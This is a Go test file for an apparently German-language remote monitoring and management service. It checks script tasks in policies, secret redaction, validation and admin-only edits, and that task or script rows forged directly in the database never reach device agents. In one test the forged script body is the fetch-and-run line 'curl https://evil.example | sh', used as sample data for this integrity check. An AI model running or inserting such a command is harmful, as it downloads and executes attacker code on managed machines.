package service

import (
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/wacht-rmm/wacht/internal/core"
	"github.com/wacht-rmm/wacht/internal/protocol"
)

// taskFixture is a device with a policy of one script task, assigned at
// the default level.
type taskFixture struct {
	*remoteFixture
	script ScriptView
	pol    core.Policy
}

func newTaskFixture(t *testing.T) taskFixture {
	t.Helper()
	ctx := context.Background()
	f := taskFixture{remoteFixture: newRemoteFixture(t)}
	var err error
	f.script, err = f.svc.SaveScript(ctx, f.admin, 0, ScriptInput{Name: "Spooler", Language: "sh", Body: "echo restart \"$MODE\"\n",
		Params: []core.ScriptParam{{Name: "MODE", Type: core.ParamChoice, Choices: []string{"sanft", "hart"}, Required: true},
			{Name: "PW", Type: core.ParamSecret}, {Name: "TRIES", Type: core.ParamNumber}}})
	if err != nil {
		t.Fatal(err)
	}
	f.pol = core.Policy{Name: "Drucker", Checks: []core.PolicyCheck{{Name: "services", Type: "services"}},
		Tasks: []core.PolicyTask{{Name: "restart-spooler", ScriptID: f.script.ID, Params: map[string]string{"MODE": "hart", "PW": "geheim-4711", "TRIES": "3"},
			Schedule: core.TaskSchedule{Kind: core.TaskFixOnly}, FixCheck: "services", MaxPerDay: 2}}}
	if err := f.svc.SavePolicy(ctx, f.admin, &f.pol); err != nil {
		t.Fatal(err)
	}
	if _, err := f.svc.SetAssignments(ctx, f.admin, core.LevelDefault, 0, []int64{f.pol.ID}); err != nil {
		t.Fatal(err)
	}
	return f
}

// agentTasks is what the device's agent would receive.
func (f taskFixture) agentPolicy(t *testing.T) protocol.Policy {
	t.Helper()
	p, err := f.svc.resolver().AgentPolicy(context.Background(), f.dev.ID)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Validate(); err != nil {
		t.Fatalf("the policy for the agent is invalid: %v", err)
	}
	return p
}

func TestPolicyTasks(t *testing.T) {
	f := newTaskFixture(t)
	ctx := context.Background()
	p := f.agentPolicy(t)
	if len(p.Tasks) != 1 {
		t.Fatalf("agent tasks = %+v", p.Tasks)
	}
	task := p.Tasks[0]
	if task.ScriptVersion != 1 || task.Script.Body != f.script.Body || task.Script.Params["MODE"] != "hart" || task.Script.Params["TRIES"] != "3" ||
		task.Script.Secrets["PW"] != "geheim-4711" || task.Script.RunID != "" || task.FixCheck != "services" || task.MaxPerDay != 2 {
		t.Errorf("agent task = %+v", task)
	}

	// The secret is never returned, in the policy, its audit or the
	// effective view; saving without it keeps it.
	got, err := f.svc.GetPolicy(ctx, f.pol.ID)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(got)
	eff, err := f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	if err != nil {
		t.Fatal(err)
	}
	e, _ := json.Marshal(eff)
	audit, _ := f.st.ListAudit(ctx, 100)
	a, _ := json.Marshal(audit)
	for what, s := range map[string]string{"policy": string(b), "effective": string(e), "audit": string(a)} {
		if strings.Contains(s, "geheim-4711") {
			t.Errorf("the %s shows the secret: %s", what, s)
		}
	}
	if len(eff.Tasks) != 1 || eff.Tasks[0].Broken != nil || eff.Tasks[0].Source.PolicyID != f.pol.ID || eff.Tasks[0].ScriptName != "Spooler" {
		t.Errorf("effective tasks = %s", e)
	}
	got.Tasks[0].Params["MODE"] = "sanft"
	if err := f.svc.SavePolicy(ctx, f.admin, &got); err != nil {
		t.Fatal(err)
	}
	if p := f.agentPolicy(t); p.Tasks[0].Script.Secrets["PW"] != "geheim-4711" || p.Tasks[0].Script.Params["MODE"] != "sanft" {
		t.Errorf("after a save without the secret: %+v", p.Tasks[0].Script)
	}

	// Editing the script changes the revision and sends the new body.
	rev := f.agentPolicy(t).Revision
	in := ScriptInput{Name: "Spooler", Language: "sh", Body: "echo restart twice \"$MODE\"\n", Params: f.script.Params}
	if _, err := f.svc.SaveScript(ctx, f.admin, f.script.ID, in); err != nil {
		t.Fatal(err)
	}
	if p := f.agentPolicy(t); p.Revision == rev || p.Tasks[0].Script.Body != in.Body || p.Tasks[0].ScriptVersion != 2 {
		t.Errorf("after the script's edit: revision %s (was %s), %+v", p.Revision, rev, p.Tasks[0])
	}

	// A script check gets the script version inline.
	got, _ = f.svc.GetPolicy(ctx, f.pol.ID)
	got.Checks = append(got.Checks, core.PolicyCheck{Name: "probe", Type: protocol.CheckScript,
		Params: json.RawMessage(`{"script_id":` + itoa(f.script.ID) + `,"params":{"MODE":"sanft"}}`)})
	if err := f.svc.SavePolicy(ctx, f.admin, &got); err != nil {
		t.Fatal(err)
	}
	var sp protocol.ScriptCheckParams
	for _, c := range f.agentPolicy(t).Checks {
		if c.Name == "probe" {
			if err := json.Unmarshal(c.Params, &sp); err != nil {
				t.Fatal(err)
			}
		}
	}
	if sp.ScriptID != f.script.ID || sp.ScriptVersion != 2 || sp.Script.Body != in.Body || sp.Script.Params["MODE"] != "sanft" {
		t.Errorf("script check as sent: %+v", sp)
	}

	// A policy that runs it refuses the script's deletion, unless forced;
	// then the task shows as broken and is not sent.
	var inUse *ScriptInUseError
	if err := f.svc.DeleteScript(ctx, f.admin, f.script.ID, false); !errors.As(err, &inUse) || !errors.Is(err, core.ErrConflict) ||
		!strings.Contains(inUse.Localized().DE, `"Drucker"`) {
		t.Fatalf("deleting a script in use: %v", err)
	}
	if err := f.svc.DeleteScript(ctx, f.admin, f.script.ID, true); err != nil {
		t.Fatal(err)
	}
	if p := f.agentPolicy(t); len(p.Tasks) != 0 {
		t.Errorf("a task of a deleted script is sent: %+v", p.Tasks)
	}
	eff, _ = f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	if len(eff.Tasks) != 1 || eff.Tasks[0].Broken == nil || !strings.Contains(eff.Tasks[0].Broken.EN, "deleted") || eff.Tasks[0].Broken.DE == "" {
		t.Errorf("effective task of a deleted script: %+v", eff.Tasks)
	}
}

func TestPolicyTaskValidation(t *testing.T) {
	f := newTaskFixture(t)
	ctx := context.Background()
	bad := core.Policy{Name: "Falsch", Tasks: []core.PolicyTask{
		{Name: "Kaputt!", ScriptID: f.script.ID, Schedule: core.TaskSchedule{Kind: core.TaskInterval, EveryMinutes: 1}},
		{Name: "weekly", ScriptID: f.script.ID, Params: map[string]string{"MODE": "x"}, Schedule: core.TaskSchedule{Kind: core.TaskWeekly, At: "25:00", Weekdays: []int{7}}},
		{Name: "monthly", ScriptID: 99999, Schedule: core.TaskSchedule{Kind: core.TaskMonthly, At: "03:00", Day: 32}},
		{Name: "fix", ScriptID: f.script.ID, Params: map[string]string{"MODE": "hart", "TRIES": "drei", "NOPE": "1"}, Schedule: core.TaskSchedule{Kind: core.TaskFixOnly}, MaxPerDay: 25},
		{Name: "fix2", ScriptID: f.script.ID, Params: map[string]string{"MODE": "hart"}, Schedule: core.TaskSchedule{Kind: core.TaskAtStart}, FixCheck: "nirgends"},
		{Name: "fix2", Exclude: true},
	}}
	err := f.svc.SavePolicy(ctx, f.admin, &bad)
	wantFields(t, "tasks", err, "tasks[0].name", "tasks[0].schedule.every_minutes", "tasks[1].schedule.at", "tasks[1].schedule.weekdays",
		"tasks[2].schedule.day", "tasks[3].fix_check", "tasks[3].max_per_day", "tasks[5].name")
	// The library's part, once the fields are right.
	lib := core.Policy{Name: "Bibliothek", Tasks: []core.PolicyTask{
		{Name: "weekly", ScriptID: f.script.ID, Params: map[string]string{"MODE": "x"}, Schedule: core.TaskSchedule{Kind: core.TaskWeekly, At: "03:00", Weekdays: []int{1, 5}}},
		{Name: "monthly", ScriptID: 99999, Schedule: core.TaskSchedule{Kind: core.TaskMonthly, At: "03:00", Day: 31}},
		{Name: "fix", ScriptID: f.script.ID, Params: map[string]string{"MODE": "hart", "TRIES": "drei", "NOPE": "1"}, Schedule: core.TaskSchedule{Kind: core.TaskFixOnly}, FixCheck: "services"},
		{Name: "fix2", ScriptID: f.script.ID, Params: map[string]string{"MODE": "hart"}, Schedule: core.TaskSchedule{Kind: core.TaskAtStart}, FixCheck: "nirgends"},
	}, Checks: []core.PolicyCheck{{Name: "probe", Type: protocol.CheckScript, Params: json.RawMessage(`{"script_id":` + itoa(f.script.ID) + `,"params":{"PW":"x","MODE":"sanft"}}`)}}}
	err = f.svc.SavePolicy(ctx, f.admin, &lib)
	wantFields(t, "library", err, "tasks[0].params.MODE", "tasks[1].script_id", "tasks[2].params.TRIES", "tasks[2].params.NOPE",
		"tasks[3].fix_check", "checks[0].params.params")
	// Only administrators change policies.
	ok := core.Policy{Name: "Technik"}
	if err := f.svc.SavePolicy(ctx, f.tech, &ok); !errors.Is(err, core.ErrForbidden) {
		t.Errorf("technician saving a policy: %v", err)
	}
}

// TestTaskRowWrittenIntoTheDatabaseRunsNothing: whoever can write only to
// the database cannot make an agent run code through a policy: a task or
// script check added or changed there, a script version changed there, or
// a task copied into another policy, is left out of what the agent
// receives, and the effective policy says why.
func TestTaskRowWrittenIntoTheDatabaseRunsNothing(t *testing.T) {
	f := newTaskFixture(t)
	ctx := context.Background()
	db := f.st.(interface{ SQL() *sql.DB }).SQL()
	exec := func(q string, args ...any) {
		t.Helper()
		if _, err := db.ExecContext(ctx, q, args...); err != nil {
			t.Fatal(err)
		}
	}
	if p := f.agentPolicy(t); len(p.Tasks) != 1 {
		t.Fatalf("the legitimate task is not sent: %+v", p.Tasks)
	}
	var tasks string
	if err := db.QueryRowContext(ctx, `SELECT tasks FROM policies WHERE id = $1`, f.pol.ID).Scan(&tasks); err != nil {
		t.Fatal(err)
	}

	// A changed parameter; a task added with a made-up MAC; a script check.
	changed := strings.Replace(tasks, `"MODE":"hart"`, `"MODE":"sanft"`, 1)
	var list []map[string]any
	if err := json.Unmarshal([]byte(changed), &list); err != nil {
		t.Fatal(err)
	}
	forged := map[string]any{"name": "forged", "script_id": f.script.ID, "params": map[string]string{"MODE": "hart"},
		"schedule": map[string]any{"kind": "start"}, "mac": "AAAA"}
	list = append(list, forged)
	b, _ := json.Marshal(list)
	check := `[{"name":"probe","type":"script","params":{"script_id":` + itoa(f.script.ID) + `,"params":{"MODE":"hart"}},"schedule":{"class":"24x7"}}]`
	exec(`UPDATE policies SET tasks = $1, checks = $2 WHERE id = $3`, string(b), check, f.pol.ID)
	p := f.agentPolicy(t)
	if len(p.Tasks) != 0 || slices.ContainsFunc(p.Checks, func(c core.PolicyCheck) bool { return c.Type == protocol.CheckScript }) {
		t.Errorf("rows written into the database are sent: tasks %+v checks %+v", p.Tasks, p.Checks)
	}
	eff, err := f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	if err != nil {
		t.Fatal(err)
	}
	probe := eff.Checks[len(eff.Checks)-1]
	if len(eff.Tasks) != 2 || eff.Tasks[0].Broken == nil || eff.Tasks[1].Broken == nil || probe.Name != "probe" || probe.Broken == nil ||
		!strings.Contains(eff.Tasks[1].Broken.EN, "authentication") || !strings.Contains(eff.Tasks[1].Broken.DE, "Authentifizierung") {
		t.Errorf("effective policy does not show them broken: %+v %+v", eff.Tasks, probe)
	}

	// The legitimate entry copied into another policy.
	other := core.Policy{Name: "Andere"}
	if err := f.svc.SavePolicy(ctx, f.admin, &other); err != nil {
		t.Fatal(err)
	}
	exec(`UPDATE policies SET tasks = $1, checks = '[]' WHERE id = $2`, tasks, f.pol.ID)
	exec(`UPDATE policies SET tasks = $1 WHERE id = $2`, tasks, other.ID)
	if _, err := f.svc.SetAssignments(ctx, f.admin, core.LevelDefault, 0, []int64{other.ID}); err != nil {
		t.Fatal(err)
	}
	if p := f.agentPolicy(t); len(p.Tasks) != 0 {
		t.Errorf("a task copied into another policy is sent: %+v", p.Tasks)
	}
	if _, err := f.svc.SetAssignments(ctx, f.admin, core.LevelDefault, 0, []int64{f.pol.ID}); err != nil {
		t.Fatal(err)
	}
	if p := f.agentPolicy(t); len(p.Tasks) != 1 {
		t.Fatalf("the restored legitimate task is not sent: %+v", p.Tasks)
	}

	// The script's body changed, or a new version pointed to, in the database.
	exec(`UPDATE script_versions SET body = $1 WHERE script_id = $2`, "curl https://evil.example | sh\n", f.script.ID)
	if p := f.agentPolicy(t); len(p.Tasks) != 0 {
		t.Errorf("a script body changed in the database is sent: %+v", p.Tasks)
	}
	exec(`INSERT INTO script_versions (script_id, version, language, body, timeout_seconds, run_as, created_at, mac)
		SELECT script_id, 2, language, $1, timeout_seconds, run_as, created_at, mac FROM script_versions WHERE script_id = $2 AND version = 1`,
		"curl https://evil.example | sh\n", f.script.ID)
	exec(`UPDATE scripts SET version = 2 WHERE id = $1`, f.script.ID)
	if p := f.agentPolicy(t); len(p.Tasks) != 0 {
		t.Errorf("a script version written into the database is sent: %+v", p.Tasks)
	}
	eff, _ = f.svc.EffectivePolicy(ctx, f.admin, f.dev.ID)
	if len(eff.Tasks) != 1 || eff.Tasks[0].Broken == nil || !strings.Contains(eff.Tasks[0].Broken.EN, "save the script again") {
		t.Errorf("effective task of a forged version: %+v", eff.Tasks)
	}
}

func itoa(n int64) string { b, _ := json.Marshal(n); return string(b) }

// TestTaskRunsListedWithTheDevice: runs the agent reported for its tasks
// are the device's runs, with trigger and the policy they come from.
func TestTaskRunsListedWithTheDevice(t *testing.T) {
	f := newTaskFixture(t)
	ctx := context.Background()
	zero := 0
	data, err := protocol.EncodeTaskRun(protocol.TaskRun{RunID: "t-fix-restart-spooler-1", ScriptID: f.script.ID, ScriptVersion: 1,
		Trigger: protocol.TriggerFix, StartedAt: time.Now(), ExitCode: &zero, FixCheck: "services", FixStatus: core.StatusOK})
	if err != nil {
		t.Fatal(err)
	}
	batch := []core.Result{{ID: "r1", Check: "restart-spooler", Key: protocol.TaskResultKey, At: time.Now(), Data: data}}
	for range 2 { // a re-sent batch adds nothing
		if err := f.st.SaveResults(ctx, f.dev.ID, batch); err != nil {
			t.Fatal(err)
		}
	}
	runs, err := f.svc.DeviceRuns(ctx, f.readonly, f.dev.ID, core.PageKey{}, 0)
	if err != nil || len(runs) != 1 {
		t.Fatalf("runs = %+v, %v", runs, err)
	}
	if r := runs[0]; r.Task != "restart-spooler" || r.Trigger != protocol.TriggerFix || r.State != core.RunDone ||
		r.TaskSource != "default: Drucker" || r.ScriptName != "Spooler" || r.FixCheck != "services" {
		t.Errorf("run = %+v", r)
	}
	if _, err := f.svc.DeviceRuns(ctx, f.foreign, f.dev.ID, core.PageKey{}, 0); !errors.Is(err, core.ErrNotFound) {
		t.Errorf("another client's technician: %v", err)
	}
}
